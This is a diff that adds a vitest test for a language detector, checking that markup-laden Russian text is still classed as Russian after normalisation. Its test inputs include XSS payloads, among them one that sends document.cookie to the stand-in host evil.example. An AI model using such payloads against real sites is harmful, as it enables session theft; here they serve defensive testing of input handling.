@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { DEFAULT_LANGUAGE_OPTIONS, detectLanguage } from '../../../src/detect/detect-language.js';
+import { normalizeText } from '../../../src/detect/normalize-text.js';
 
 const lang = (text: string) => detectLanguage(text.toLowerCase(), DEFAULT_LANGUAGE_OPTIONS);
 
@@ -22,6 +23,22 @@ describe('detectLanguage', () => {
     expect(lang('Hello everyone, is there a good cafe near the station?')).toBe('eng');
     expect(lang('🤬🤬🤬 !!! 123')).toBe('und');
     expect(lang('ok')).toBe('und');
+  });
+
+  it('should not let markup decide the language, once the text is normalised', () => {
+    const normalised = (text: string) => detectLanguage(normalizeText(text).text, DEFAULT_LANGUAGE_OPTIONS);
+    for (const text of [
+      '<script>alert(document.cookie)</script> Нет отопления на Гагарина 12',
+      '<script>document.location="http://evil.example/?c="+document.cookie;</script>Нет отопления на Гагарина 12',
+      '<img src=x onerror=alert(document.cookie)> Нет отопления на Гагарина 12',
+      '<style>body{background:url(javascript:alert(1))}</style><b>Нет отопления</b> на <i>Гагарина</i> 12',
+      '&lt;script&gt;&amp;&quot;&#x27;&#39; Нет отопления на Гагарина 12',
+      '<script>alert(document.cookie) Нет отопления на Гагарина 12',
+    ]) {
+      expect(normalised(text), text).toBe('rus');
+    }
+    expect(normalised('<b>Hello everyone, is there a good cafe near the station?</b>')).toBe('eng');
+    expect(normalised('<script>alert(document.cookie)</script>')).toBe('und');
   });
 
   it('should answer only with allowed languages', () => {
